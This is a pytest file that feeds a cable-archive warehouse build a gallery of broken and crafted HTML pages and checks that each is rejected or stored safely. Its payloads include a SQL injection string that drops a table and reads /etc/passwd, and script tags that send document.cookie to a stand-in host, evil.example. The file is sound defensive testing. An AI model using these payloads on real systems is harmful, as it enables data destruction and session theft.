"""Hostile pages: a hand-made gallery of what a mirror or a folder can hold, built by the real flow.

No page crashes the build, each ends up in the tables or in ``reject`` with its reason, the
counts reconcile, text that looks like SQL or script stays data, and time and memory per page
stay bounded.
"""

from __future__ import annotations

import json
import random
import resource
import subprocess
import sys
import time

import polars as pl
import pytest

from cables.settings import PROJECT_ROOT, SAMPLE_DIR, SQL_DIR
from flows.build import build_warehouse
from flows.landing import MAX_PAGE_BYTES
from flows.layout import Warehouse
from flows.serve import connect_read_only, sql_views

pytestmark = pytest.mark.usefixtures("prefect_harness")

REAL = SAMPLE_DIR / "chillicoder__cablegate/public/cable/2009/01/09TRIPOLI65.html"
SQL_TEXT = "x'); DROP TABLE cable; SELECT * FROM read_csv('/etc/passwd'); --"


def real() -> str:
    return REAL.read_text()


def with_body_line(text: str, line: str) -> str:
    at = text.rindex("</pre>")
    return text[:at] + "\n" + line + "\n" + text[at:]


def gallery() -> dict[str, bytes]:
    """File name -> content: each a way a page can be broken or crafted."""
    page = real()
    rng = random.Random(7)
    pages = {
        "binary-junk.html": rng.randbytes(20_000),
        "empty.html": b"",
        "nul-bytes.html": b"\x00" * 5000,
        "too-large.html": page.encode() + b"<!--" + b"x" * (MAX_PAGE_BYTES + 1024) + b"-->",
        "huge-body.html": with_body_line(page, "LONG LINE OF TEXT. " * 1_000_000).encode(),  # 19 MB, parsed
        "deeply-nested.html": ("<div>" * 200_000 + page).encode(),
        "unclosed-body.html": page[: page.rindex("</pre>") - 200].encode(),
        "unclosed-tags.html": page.replace("</td>", "").replace("</tr>", "").encode(),
        "latin-1.html": with_body_line(page, "CAFÉ À LA CRÈME, NAÏVE").encode("latin-1", errors="replace"),
        "pilcrow-0xb6.html": page.encode("utf-8").replace("¶".encode(), b"\xb6"),
        "utf-16.html": page.encode("utf-16"),
        "script.html": with_body_line(
            page.replace("<h3>", "<script>alert(document.cookie)</script><h3>", 1),
            "<script>fetch('http://evil.example/'+document.cookie)</script> <a href=\"javascript:alert(1)\">CLICK</a>",
        ).encode(),
        # In the subject, the header's sender, the viewer's title, the text and a paragraph.
        "sql-in-every-field.html": page.replace("SUBJECT:", f"SUBJECT: {SQL_TEXT}\nX:", 1)
        .replace("FM AMEMBASSY TRIPOLI", f"FM {SQL_TEXT}")
        .replace("Embassy Tripoli", SQL_TEXT)
        .replace("Viewing cable 09TRIPOLI65", f"Viewing cable 09TRIPOLI65, {SQL_TEXT}")
        .replace("</pre>", f"\n7. (C) {SQL_TEXT}\n</pre>")
        .encode(),
        "header-and-body-disagree.html": page.replace("FM AMEMBASSY TRIPOLI", "FM SECSTATE WASHDC").encode(),
        "duplicate-id-other-content.html": with_body_line(page, "A DIFFERENT SENTENCE IN THE SAME CABLE ID.").encode(),
    }
    return pages


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("hostile")
    source = root / "pages"
    source.mkdir()
    for name, content in gallery().items():
        (source / name).write_bytes(content)
    (source / REAL.name).write_bytes(REAL.read_bytes())  # the genuine page beside its forgeries
    start = time.perf_counter()
    result = build_warehouse(source=str(source), warehouse=str(root / "wh"))
    return {"result": result, "source": source, "warehouse": root / "wh", "seconds": time.perf_counter() - start}


def outcome(hostile_build) -> dict[str, str]:
    """File name -> ``cable`` (a version of a cable) or its reject reason."""
    wh = Warehouse.at(hostile_build["warehouse"])
    versions = pl.read_parquet(wh.table_files("page_version"), hive_partitioning=False)
    rejects = pl.read_parquet(wh.table_files("reject"))
    found = {uri.rsplit("/", 1)[-1]: "cable" for uri in versions["source_uri"]}
    found |= {uri.rsplit("/", 1)[-1]: reason for uri, reason in rejects.select("source_uri", "reason").iter_rows()}
    return found


def test_every_hostile_page_is_a_cable_or_a_reject_with_its_reason(hostile_build):
    found = outcome(hostile_build)
    assert set(found) == {*gallery(), REAL.name}  # nothing lost
    assert found["binary-junk.html"] == found["nul-bytes.html"] == "not a cable page"
    assert found["empty.html"] == "empty file"
    assert found["too-large.html"].startswith("fetch failed: too large")
    assert found["unclosed-body.html"] == "cable page without its header and body blocks"
    assert found["unclosed-tags.html"] == "cable page without a readable meta table"  # cells never closed
    for name in (
        "huge-body.html",
        "deeply-nested.html",
        "latin-1.html",
        "pilcrow-0xb6.html",
        "utf-16.html",
        "script.html",
        "sql-in-every-field.html",
        "header-and-body-disagree.html",
        "duplicate-id-other-content.html",
    ):
        assert found[name] == "cable", name
    rows = hostile_build["result"]["rows"]
    assert rows["raw_page"] + rows["never_fetched"] == rows["page_version"] + rows["reject"]
    assert hostile_build["seconds"] < 300


def test_crafted_text_stays_data(hostile_build):
    wh = Warehouse.at(hostile_build["warehouse"])
    con = connect_read_only(wh, SQL_DIR)
    try:
        # Every forgery keeps the id 09TRIPOLI65: they are versions of it, one of them current.
        statuses = dict(
            con.execute(
                "select status, count(*) from page_version where reference_id = '09TRIPOLI65' group by 1"
            ).fetchall()
        )
        assert statuses["current"] == 1 and sum(statuses.values()) == 10
        # Every view still answers; the SQL-looking subject is text in the versions that printed it.
        for name, _, _ in sql_views(SQL_DIR):
            con.execute(f"select count(*) from {name}").fetchone()
        crafted = con.execute(
            "select count(*) from cable_change where contains(from_subject, ?) or contains(to_subject, ?)",
            ["DROP TABLE cable", "DROP TABLE cable"],
        ).fetchone()[0]
        assert crafted >= 1
        # No script link becomes an article link.
        assert (
            con.execute("select count(*) from media_link where not regexp_matches(url, '^https?://')").fetchone()[0]
            == 0
        )
        scripts = con.execute("select count(*) from cable_change where contains(body_diff, '<script')").fetchone()[0]
        assert scripts == 0  # tags are removed from the text, their words kept
    finally:
        con.close()


def test_a_huge_page_is_parsed_in_bounded_time_and_memory(tmp_path):
    """The 19 MB page alone, in a child process: its time and peak memory."""
    page = tmp_path / "huge.html"
    page.write_bytes(gallery()["huge-body.html"])
    script = (
        "import hashlib, sys, time, polars as pl\n"
        "from transforms.parse import parsed_tables\n"
        "c = open(sys.argv[1], 'rb').read()\n"
        "t = time.perf_counter()\n"
        "raw = pl.DataFrame({'sha256': [hashlib.sha256(c).hexdigest()], 'content': [c]})\n"
        "tables = parsed_tables(raw)\n"
        "print(time.perf_counter() - t, tables['cable_version'].height, tables['paragraph'].height)\n"
    )
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    result = subprocess.run(
        [sys.executable, "-c", script, str(page)], cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=300
    )
    assert result.returncode == 0, result.stderr
    seconds, cables, _ = result.stdout.split()
    peak_mb = max(before, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss) / 1024
    assert int(cables) == 1
    assert float(seconds) < 60 and peak_mb < 2500, (seconds, peak_mb)
    (tmp_path / "figures.json").write_text(json.dumps({"seconds": float(seconds), "peak_mb": peak_mb}))
